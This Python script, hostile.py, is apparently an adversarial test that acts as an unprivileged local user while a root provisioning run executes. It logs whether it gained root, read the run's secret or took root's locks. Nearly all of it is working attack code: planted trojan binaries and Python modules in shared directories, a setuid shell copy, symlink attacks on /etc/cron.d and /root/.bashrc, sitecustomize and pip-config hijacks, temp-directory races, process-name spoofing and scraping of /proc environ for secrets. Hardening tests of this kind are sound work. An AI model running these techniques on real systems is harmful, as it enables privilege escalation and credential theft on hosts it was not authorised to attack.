"""Runs on a host as an ordinary user, during a run, and tries everything that such a user can.

hostile.py DIRECTORY SECRET     until DIRECTORY/stop is there

What it achieves is written to DIRECTORY: `root` (a planted program ran as root), `secret` (the
run's secret was read), `lock` (a lock of root's was taken); `tried` counts the attempts by kind.
"""

import contextlib
import fcntl
import glob
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import time

PLACE, SECRET = sys.argv[1], sys.argv[2].encode()
HOME = os.path.expanduser("~")
TRIED = {}
# Each of these would be executed by a root who trusts a directory of ours.
PROGRAM = "#!/bin/sh\n[ $(id -u) = {uid} ] || {{ echo $0 $(id -u) >> {place}/root; }}\nexit 0\n"
PYTHON = (
    "import os\nif os.getuid() != {uid}:\n    open('{place}/root', 'a').write(__file__ + '\\n')\n"
)
NAMES = ("dpkg", "apt-get", "nvidia-smi", "python3", "sh", "find", "ldconfig", "systemctl")
MODULES = ("json", "sitecustomize", "usercustomize", "hashlib", "argparse", "tarfile", "pwd")
CALLED = (
    "dpkg",
    "apt-get",
    "nvidia-persiste",
    "conmon",
    "provision: holds this host",
    "pip",
    "docker",
)
OPEN = ("/tmp", "/var/tmp", "/dev/shm", HOME)
# A home's file is led to each of these in turn; none is ours.
TARGETS = (
    "/etc/roots/victim",
    "/etc/cron.d/evil",
    "/root/.bashrc",
    "/etc/environment",
    "/dev/zero",
)
LOCKS = (
    "/var/lib/provision/run.lock", "/var/lib/provision/receipt.json", "/run/provision",
    "/var/lib/dpkg/lock", "/var/lib/dpkg/lock-frontend", "/var/lib/apt/lists/lock",
)  # fmt: skip


def tried(kind):
    TRIED[kind] = TRIED.get(kind, 0) + 1


def note(name, text):
    with open(os.path.join(PLACE, name), "a") as stream:
        stream.write(text + "\n")


def write(path, text, mode=0o644):
    """Nothing of root's is to be opened by mistake: a new file each time."""
    with contextlib.suppress(OSError):
        with open(path + ".x", "w") as stream:
            stream.write(text)
        os.chmod(path + ".x", mode)
        os.replace(path + ".x", path)


def plant():
    """Programs, modules, hooks and archives under every name that root may look for."""
    words = {"uid": os.getuid(), "place": PLACE}
    for directory in OPEN:
        for name in NAMES:
            write(os.path.join(directory, name), PROGRAM.format(**words), 0o755)
        for name in MODULES:
            write(os.path.join(directory, name + ".py"), PYTHON.format(**words))
        shell = os.path.join(directory, "rootshell")
        with contextlib.suppress(OSError):
            shutil.copy("/bin/sh", shell)
            os.chmod(shell, 0o6755)  # noqa: S103  the attack
        for name in ("cudnn-8.tgz", "cudnn-11.2-linux-x64-v8.5.0.96.tgz", "NVIDIA-Linux-x.run"):
            with contextlib.suppress(OSError):
                os.mkfifo(os.path.join(directory, name))
        for name in ("ansible.cfg", ".ansible", "provision-cudnn.aaaaaaaa"):
            with contextlib.suppress(OSError):
                os.symlink("/etc/roots", os.path.join(directory, name))
    site = os.path.join(HOME, ".local/lib/python3.9/site-packages")
    os.makedirs(site, exist_ok=True)
    for name in ("sitecustomize.py", "usercustomize.py"):
        write(os.path.join(site, name), PYTHON.format(**words))
    write(os.path.join(site, "evil.pth"), "import usercustomize\n")
    write(os.path.join(HOME, ".netrc"), "default login evil password evil\n")
    os.makedirs(os.path.join(HOME, ".config/pip"), exist_ok=True)
    write(os.path.join(HOME, ".config/pip/pip.conf"), "[global]\nindex-url=http://127.0.0.1:9/\n")
    with contextlib.suppress(OSError):
        os.symlink("/root", os.path.join(HOME, "Downloads"))
    tried("plant")


def home():
    """~/.bashrc is a named pipe, a link to something of root's, a loop, a directory, in turn."""
    path = os.path.join(HOME, ".bashrc")
    new = path + ".new"
    with contextlib.suppress(OSError):
        os.unlink(new)
    turn = TRIED.get("home", 0) % (len(TARGETS) + 2)
    if turn < len(TARGETS):
        os.symlink(TARGETS[turn], new)
    elif turn == len(TARGETS):
        os.symlink(".bashrc", new)
    else:
        os.mkfifo(new)
    os.replace(new, path)
    tried("home")


HELD = []


def locks():
    for path in LOCKS:
        with contextlib.suppress(OSError):
            handle = os.open(path, os.O_RDONLY)
            try:
                fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
            except OSError:
                os.close(handle)
                continue
            HELD.append(handle)
            if path.endswith("lock"):
                note("lock", path)
    tried("lock")


RUNS = set()
CHILDREN = []


def names():
    """Processes with the names of root's, and with the run's id, which `ps` shows to everybody."""
    runs = set()
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        with contextlib.suppress(OSError), open(path, "rb") as stream:
            line = stream.read()
            if SECRET in line and b"hostile.py" not in line:
                note("secret", repr(line))
            runs.update(re.findall(rb"PROVISION_RUN=([A-Za-z0-9-]+)", line))
    for run in sorted(runs - RUNS):
        for name in CALLED:
            program = os.path.join(PLACE, name)
            environment = {"PROVISION_RUN": run.decode(), "PROVISION_JOB": run.decode()}
            CHILDREN.append(subprocess.Popen([name, "9999"], executable=program, env=environment))
    RUNS.update(runs)
    tried("names")


def read():
    """Whatever of others' can be read where a run may leave something."""
    for pattern in ("/tmp/*", "/var/tmp/*", "/run/provision/*/*", "/home/*/.ansible/tmp/*/*",
                    "/root/.ansible/tmp/*/*", "/var/lib/provision/*", "/etc/apt/auth.conf.d/*",
                    "/etc/apt/sources.list.d/*", "/proc/[0-9]*/environ"):  # fmt: skip
        for path in glob.glob(pattern):
            with contextlib.suppress(OSError):
                info = os.lstat(path)
                if info.st_uid == os.getuid() or not os.path.isfile(path):
                    continue
                with open(path, "rb") as stream:
                    if SECRET in stream.read(1 << 20):
                        note("secret", path)
    tried("read")


def planted_directories():
    """Directories that root has just made under open ones: links in their place."""
    for pattern in ("/tmp/ansible*", "/tmp/tmp*", "/var/tmp/provision-*", "/tmp/provision-*"):
        for path in glob.glob(pattern):
            with contextlib.suppress(OSError):
                os.rename(path, path + ".aside")
            with contextlib.suppress(OSError):
                os.symlink("/etc/roots/victim", os.path.join(path, "archive"))
    tried("directories")


def main():
    for name in CALLED:
        shutil.copy("/bin/sleep", os.path.join(PLACE, name))
    plant()
    servers = []
    for port in (*range(8800, 8820), 8888, 8443, 6006):
        with contextlib.suppress(OSError):
            server = socket.socket()
            server.bind(("127.0.0.1", port))
            server.listen(1)
            servers.append(server)
    tried("ports")
    kinds = (home, locks, names, read, planted_directories)
    while not os.path.exists(os.path.join(PLACE, "stop")):
        for kind in kinds:
            kind()
        with open(os.path.join(PLACE, "tried.new"), "w") as stream:
            ended = [child.args[0] for child in CHILDREN if child.poll() is not None]
            json.dump({**TRIED, "children": len(CHILDREN), "ended": ended}, stream)
        os.replace(os.path.join(PLACE, "tried.new"), os.path.join(PLACE, "tried"))
        time.sleep(0.05)
    for child in CHILDREN:
        child.kill()


main()
